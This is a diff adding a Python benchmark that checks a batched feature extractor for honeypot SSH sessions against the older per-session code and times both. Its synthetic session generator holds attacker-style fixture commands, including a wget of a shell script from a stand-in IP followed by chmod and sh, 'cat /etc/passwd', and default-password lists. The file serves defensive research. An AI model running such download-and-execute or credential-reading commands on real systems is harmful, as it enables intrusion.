@@ -0,0 +1,189 @@
+"""
+MICRO-BENCHMARK: feature di un file di sessioni pulite
+
+confronta il vecchio calcolo sessione per sessione (liste python + funzioni di HoneyClusterData)
+con il motore a blocchi di HoneyClusterBatch usato da ZenodoProcesser._sessions_to_features.
+Le feature devono essere identiche bit per bit. Senza argomenti usa sessioni sintetiche nel formato cleaned
+(brute force, sessioni interattive, tunneling; qualche evento ha il timestamp mancante o illeggibile), altrimenti i file cleaned indicati.
+
+uso: python Benchmarks/bench_batch_features.py [numero_sessioni | file_cleaned.json ...]
+"""
+import json
+import math
+import random
+import sys
+import time
+from pathlib import Path
+
+import numpy as np
+
+# permette di lanciare lo script direttamente da riga di comando
+_ROOT = Path(__file__).resolve().parent.parent
+sys.path[:0] = [str(_ROOT)]
+
+import Zenodo.ZenodoDataReader as ZDR
+import MachineLearning.HoneyClusterData as HCD
+import MachineLearning.HoneyClusterBatch as HCB
+from Zenodo.Zenodo_keys import Status, Cleaned_Attr
+from MachineLearning.command_vocabularies import get_all_known_verbs, get_recon_exploit_flat
+
+_USERS = ["root", "admin", "ubnt", "user", "test", "oracle", "pi"]
+_PASSWORDS = ["123456", "password", "admin", "root", "12345678", "qwerty", "1234", "raspberry", "admin123"]
+_COMMANDS = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "ls -la /tmp", "wget http://203.0.113.7/x.sh",
+             "cd /tmp", "chmod +x x.sh", "sh x.sh", "free -m", "ps aux", "whoami", "cat /etc/passwd", "nproc", "lsx"]
+_PROBES = ["TLS_1.0", "TLS_1.2", "HTTP_GET", "HTTP_CONNECT", "UNKNOWN_PROBE"]
+_BAD_TIMESTAMPS = [None, "", "2019-13-45T99:00:00Z", "not a timestamp"]
+
+
+def synthetic_sessions(n_sessions: int, seed: int = 42) -> list[dict]:
+    rnd = random.Random(seed)
+    sessions = []
+    for _ in range(n_sessions):
+        t = 1_558_137_600_000_000 + rnd.randrange(86_400_000_000)
+        events = []
+
+        def event(status: int, **data):
+            nonlocal t
+            t += rnd.randrange(5_000_000)
+            timestamp = _iso(t) if rnd.random() >= 0.01 else rnd.choice(_BAD_TIMESTAMPS)
+            events.append({Cleaned_Attr.STATUS.value: status, Cleaned_Attr.TIME.value: timestamp, **data})
+
+        start = t
+        if rnd.random() < 0.7:
+            event(Status.VERSION.value)
+        kind = rnd.random()
+        if kind < 0.55: # brute force
+            for _ in range(rnd.randint(1, 60)):
+                event(Status.LOGIN_FAILED.value, username=rnd.choice(_USERS), password=rnd.choice(_PASSWORDS))
+        elif kind < 0.85: # interattiva
+            event(Status.LOGIN_SUCCESS.value, username="root", password="root")
+            if rnd.random() < 0.3:
+                event(Status.FINGERPRINT.value)
+            for _ in range(rnd.randint(0, 15)):
+                commands = rnd.sample(_COMMANDS, rnd.randint(1, 3))
+                event(Status.INPUT.value, message=commands)
+                event(rnd.choice([Status.COMMAND_SUCCESS.value, Status.COMMAND_FAILED.value]), message=commands)
+        else: # tunneling
+            event(Status.TCPIP_REQUEST.value)
+            for _ in range(rnd.randint(0, 3)):
+                event(Status.TCPIP_DATA.value, message=[rnd.choice(_PROBES)])
+        sessions.append({Cleaned_Attr.START_TIME.value: _iso(start), Cleaned_Attr.END_TIME.value: _iso(t + rnd.randrange(1_000_000)),
+                         Cleaned_Attr.EVENTS.value: events})
+    return sessions
+
+def _iso(epoch_us: int) -> str:
+    return np.datetime_as_string(np.datetime64(epoch_us, "us")) + "Z"
+
+
+"""
+//////////////////////////////////////////////////VECCHIO PERCORSO (riferimento)/////////////////////////////////////
+"""
+
+def _legacy_sessions_to_features(sessions, all_known_verbs, all_recon, all_exploit) -> HCD.HoneyClusterDataColumns:
+    columns = HCD.HoneyClusterDataColumns()
+    for session_data in sessions:
+        start_time = ZDR.get_epoch_us(session_data[Cleaned_Attr.START_TIME.value])
+        end_time = ZDR.get_epoch_us(session_data[Cleaned_Attr.END_TIME.value])
+        session_events = session_data[Cleaned_Attr.EVENTS.value]
+        if not session_events: continue
+
+        statuses, timestamps, united_commands, verbs, user_pass = [], [], [], [], []
+        for event in session_events:
+            statuses.append(event[Cleaned_Attr.STATUS.value])
+            event_time_us = ZDR.get_epoch_us(event[Cleaned_Attr.TIME.value])
+            if event_time_us is not None: # senza tempo l'evento non conta per inter_command_timing
+                timestamps.append(event_time_us)
+            all_event_command = event.get(Cleaned_Attr.MSG.value, [])
+            if all_event_command:
+                united_commands.append("; ".join(all_event_command))
+                verbs.extend(ZDR.get_verbs_of_commands(all_event_command))
+            login_tuple = ZDR.get_tuple_login_data(event)
+            if login_tuple:
+                user_pass.append(login_tuple)
+
+        [sin, cos] = HCD.get_time_of_day_patterns_epoch(start_time)
+        columns.append(HCD.HoneyClusterData(
+            inter_command_timing=_legacy_inter_command_timing(timestamps),
+            session_duration=_legacy_session_duration(start_time, end_time),
+            time_of_day_patterns_sin=sin,
+            time_of_day_patterns_cos=cos,
+            unique_commands_ratio=HCD.get_unique_commands_ratio(verbs),
+            command_diversity_ratio=HCD.get_command_diversity_ratio(verbs, all_known_verbs),
+            tool_signatures=HCD.get_tool_signatures(statuses, verbs),
+            reconnaissance_vs_exploitation_ratio=HCD.get_reconnaissance_vs_exploitation_ratio(statuses, verbs, all_recon, all_exploit),
+            error_rate=HCD.get_error_rate(statuses),
+            command_correction_attempts=HCD.get_command_correction_attempts(statuses, united_commands, user_pass)
+        ))
+    return columns
+
+def _legacy_inter_command_timing(command_times_us: list[int]) -> float:
+    if len(command_times_us) < 2:
+        return 0.0
+    avg_delta = (max(command_times_us) - min(command_times_us)) / (len(command_times_us) - 1)
+    return math.log1p(avg_delta / ZDR.US_PER_SECOND)
+
+def _legacy_session_duration(start_us: int | None, end_us: int | None) -> float:
+    if not start_us or not end_us:
+        return 0.0
+    return math.log1p((end_us - start_us) / ZDR.US_PER_SECOND)
+
+def _batch_sessions_to_features(sessions, all_known_verbs, all_recon, all_exploit) -> HCD.HoneyClusterDataColumns:
+    columns = HCD.HoneyClusterDataColumns()
+    arrays = HCB.SessionEventArrays()
+    for session_data in sessions:
+        arrays.add_session(session_data)
+    columns.extend_numpy(HCB.get_batch_features(arrays, all_known_verbs, all_recon, all_exploit))
+    return columns
+
+
+def check_malformed_timestamps(vocabularies: tuple):
+    """ un timestamp illeggibile non fa fallire il file: l'evento viene escluso solo da inter_command_timing """
+    def session(*timestamps):
+        events = [{Cleaned_Attr.STATUS.value: Status.LOGIN_FAILED.value, Cleaned_Attr.TIME.value: t, "username": "root", "password": "root"}
+                  for t in timestamps]
+        return {Cleaned_Attr.START_TIME.value: "2019-05-18T00:00:00Z", Cleaned_Attr.END_TIME.value: "garbage", Cleaned_Attr.EVENTS.value: events}
+
+    sessions = [session("2019-05-18T00:00:00Z", "garbage", "2019-05-18T00:00:10Z"), session(None, "2019-05-18T00:00:05Z"), session("", None)]
+    features = _batch_sessions_to_features(sessions, *vocabularies).to_numpy()
+    assert features["inter_command_timing"].tolist() == [np.log1p(10.0), 0.0, 0.0], features["inter_command_timing"]
+    assert features["session_duration"].tolist() == [0.0, 0.0, 0.0] # fine sessione illeggibile
+
+def _seconds(features_function, sessions: list[dict], vocabularies: tuple, repeat: int = 3) -> float:
+    best = float("inf")
+    for _ in range(repeat):
+        start = time.perf_counter()
+        features_function(sessions, *vocabularies)
+        best = min(best, time.perf_counter() - start)
+    return best
+
+
+def run(sessions: list[dict]):
+    vocabularies = (get_all_known_verbs(), *get_recon_exploit_flat())
+    events = sum(len(session[Cleaned_Attr.EVENTS.value]) for session in sessions)
+
+    check_malformed_timestamps(vocabularies)
+
+    # stesse feature, bit per bit
+    before = _legacy_sessions_to_features(sessions, *vocabularies).to_numpy()
+    after = _batch_sessions_to_features(sessions, *vocabularies).to_numpy()
+    for name in HCD.FEATURE_NAMES:
+        assert np.array_equal(before[name], after[name]), name
+
+    before = _seconds(_legacy_sessions_to_features, sessions, vocabularies)
+    after = _seconds(_batch_sessions_to_features, sessions, vocabularies)
+    print(f"sessions: {len(sessions)}, events: {events}")
+    print(f"before (per session) : {len(sessions) / before:,.0f} sessions/s")
+    print(f"after  (batch)       : {len(sessions) / after:,.0f} sessions/s")
+    print(f"speedup              : {before / after:.2f}x")
+
+
+if __name__ == "__main__":
+    arguments = sys.argv[1:]
+    if arguments and not arguments[0].isdigit():
+        all_sessions = []
+        for cleaned_file in arguments:
+            with open(cleaned_file, "r", encoding="utf-8") as f:
+                all_sessions.extend(json.load(f))
+        run(all_sessions)
+    else:
+        run(synthetic_sessions(int(arguments[0]) if arguments else 20_000))